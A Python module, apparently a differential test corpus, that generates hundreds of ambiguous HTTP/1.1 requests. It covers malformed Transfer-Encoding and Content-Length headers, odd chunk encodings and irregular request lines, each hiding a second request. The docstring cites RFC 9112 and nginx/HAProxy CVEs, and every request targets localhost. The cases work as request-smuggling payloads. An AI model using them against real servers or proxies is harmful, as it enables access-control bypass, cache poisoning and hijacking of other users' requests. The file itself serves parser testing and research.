"""Ambiguous requests: two parsers may find different borders in each of them.

A request whose target ends with `hidden` stands where one parser sees a body and another one sees
the next request. Sources: RFC 9112 sections 2.2, 3, 5, 6, 7.1 and 11.2; reports about nginx and
HAProxy (CVE-2019-18277, CVE-2019-20372, CVE-2021-40346, CVE-2023-25725, CVE-2023-40225).
"""

from collections.abc import Iterator

#: Stands for the number of a case, with as many digits.
NUMBER = b"0000"
HIDDEN = b"GET /0000/hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
LAST = b"GET /0000/last HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
SIZE = b"%x" % len(HIDDEN)
CHUNK = SIZE + b"\r\n" + HIDDEN + b"\r\n0\r\n\r\n"

CODINGS = [
    *(b"Transfer-Encoding: chunked", b"transfer-encoding:chunked", b"Transfer-Encoding: CHUNKED"),
    *(b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: chunked\x0c"),
    *(b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding:"),
    *(b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked"),
    *(b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: x"),
    *(b"Transfer-Encoding: chunked;q=1", b'Transfer-Encoding: "chunked"'),
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    *(
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t: chunked",
        b" Transfer-Encoding: chunked",
    ),
    *(b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding\r\n : chunked"),
    *(b"X: 1\r\n Transfer-Encoding: chunked", b"X: 1\nTransfer-Encoding: chunked"),
    *(b"X: 1\rTransfer-Encoding: chunked", b"X: 1\r\r\nTransfer-Encoding: chunked"),
    *(
        b"Transfer_Encoding: chunked",
        b"Transfer-Encoding: chunked\x00",
        b"Transfer-Encoding chunked",
    ),
    *(b":\r\nTransfer-Encoding: chunked", b"X\x00: 1\r\nTransfer-Encoding: chunked"),
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Transfer-\xc4\xb0Encoding: chunked",
]
#: `@` stands for the length of the hidden request.
LENGTHS = [
    *(b"Content-Length: 0\r\nContent-Length: @", b"Content-Length: @\r\nContent-Length: 0"),
    *(b"Content-Length: @\r\nContent-Length: @", b"Content-Length: @, @", b"Content-Length: 0, @"),
    *(
        b"Content-Length: +@",
        b"Content-Length: -@",
        b"Content-Length: 000@",
        b"Content-Length: 0x@",
    ),
    *(b"Content-Length:", b"Content-Length: \r\nContent-Length: @", b"Content-Length: @;x"),
    *(b"Content-Length: @ ", b"Content-Length: \x0b@", b"Content-Length : @", b"Content-Length:@"),
    *(b"Content_Length: @", b" Content-Length: @", b"X: 1\r\n Content-Length: @"),
    *(b":\r\nContent-Length: @", b"Connection: Content-Length\r\nContent-Length: @"),
    *(
        b"Content-Length: @.0",
        b"Content-Length: @e0",
        b"Content-Length: 1_@",
        b"Content-Length: @\x00",
    ),
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 184467440737095516%02d" % (16 + len(HIDDEN)),
    b"Content-Length0%b:\r\nContent-Length: @" % (b"a" * 255),
    *(b"Expect: 100-continue\r\nContent-Length: @", b"Expect: x\r\nContent-Length: @"),
    *(b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",),
    *(b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13", b"X: 1"),
]
#: Chunked bodies that for some parsers end where the hidden request begins, or after it.
CHUNKS = [
    *(CHUNK, b"0\r\n\r\n" + HIDDEN, b"0\r\n" + HIDDEN, b"00000000000000000000\r\n\r\n" + HIDDEN),
    *(b"0\n\n" + HIDDEN, b"0\r\n\n" + HIDDEN, b"0\r\r" + HIDDEN, b"0;x\n\r\n" + HIDDEN),
    *(b"0x0\r\n\r\n" + HIDDEN, b"0x" + CHUNK, b" " + CHUNK, b"\t" + CHUNK, b"+" + CHUNK),
    *(SIZE + b" \r\n" + CHUNK, SIZE + b";\n" + HIDDEN, SIZE + b";x=\r\n" + CHUNK),
    SIZE + b';x="\r\n' + HIDDEN + b'"\r\n0\r\n\r\n',
    SIZE + b";x\rx\r\n" + HIDDEN + b"\r\n0\r\n\r\n",
    SIZE + b";" + b"x" * 5000 + b"\r\n" + HIDDEN + b"\r\n0\r\n\r\n",
    SIZE + b"\r\n" + HIDDEN + b"0\r\n\r\n",
    SIZE + b"\r\n" + HIDDEN + b"\n0\r\n\r\n",
    SIZE + b"\r\n" + HIDDEN + b"xx0\r\n\r\n",
    b"1000000000000000%02x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n0\r\n\r\n",
    *(b"2;\n05\r\n" + HIDDEN, b"-1\r\n" + HIDDEN, b"\r\n" + HIDDEN, b"g\r\n" + HIDDEN),
    *(b"0\r\nContent-Length: 5\r\n\r\n" + HIDDEN, b"0\r\nX: 1\r\n\r\n" + HIDDEN),
    *(b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + HIDDEN, b"0\r\n X: 1\r\n\r\n" + HIDDEN),
    *(b"0\r\nX\r\n\r\n" + HIDDEN, b"0\r\nX: \n\r\n" + HIDDEN, b"0;\r\n\r\n" + HIDDEN),
]
FIRST = b"POST /0000/first HTTP/1.1\r\nHost: localhost\r\n"
#: Whole requests.
WHOLE = [
    HIDDEN * 10,
    b"\r\n\r\n" + HIDDEN,
    b"HEAD /0000/first HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\nHost: localhost\n\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\rHost: localhost\r\r" + HIDDEN,
    b"GET /0000/first\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1 HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET  /0000/first  HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/fir st HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first\x0bx HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first%0d%0a%0d%0aGET%20/0000/hidden HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /0000/first#x HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET http://elsewhere/0000/first HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET http://localhost@elsewhere/0000/first HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET //elsewhere/0000/first HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\r\nHost: localhost\r\nHost: elsewhere\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\r\nHost: localhost/x\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\r\nHost: a, b\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/2.0\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.2\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.1\r\nHost: localhost\r\nX: \r\n\r\n" + HIDDEN,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
    b"CONNECT /0000/first HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" + HIDDEN,
    b"GET /0000/first HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNK,
    b"POST /0000/early HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%b"
    % (len(HIDDEN), HIDDEN),
    b"POST /0000/early HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNK,
]


def _requests() -> Iterator[bytes]:
    for coding in CODINGS:
        covered = b"0\r\n\r\n" + HIDDEN
        yield FIRST + b"Content-Length: %d\r\n%b\r\n\r\n" % (len(covered), coding) + covered
        yield FIRST + b"%b\r\nContent-Length: %d\r\n\r\n" % (coding, len(SIZE) + 2) + CHUNK
        yield FIRST + coding + b"\r\n\r\n" + covered
        yield FIRST.replace(b"POST", b"GET").replace(b"1.1", b"1.0") + coding + b"\r\n\r\n" + CHUNK
    for length in LENGTHS:
        named = length.replace(b"@", b"%d" % len(HIDDEN))
        for method in (b"POST", b"GET", b"HEAD"):
            yield FIRST.replace(b"POST", method) + named + b"\r\n\r\n" + HIDDEN
    for chunks in CHUNKS:
        yield FIRST + b"Transfer-Encoding: chunked\r\n\r\n" + chunks
    yield from WHOLE


#: What clients send, each on its own connection; the last request closes the connection.
CASES = [
    (data + LAST).replace(b"/%b/" % NUMBER, b"/%04d/" % number)
    for number, data in enumerate(_requests())
]
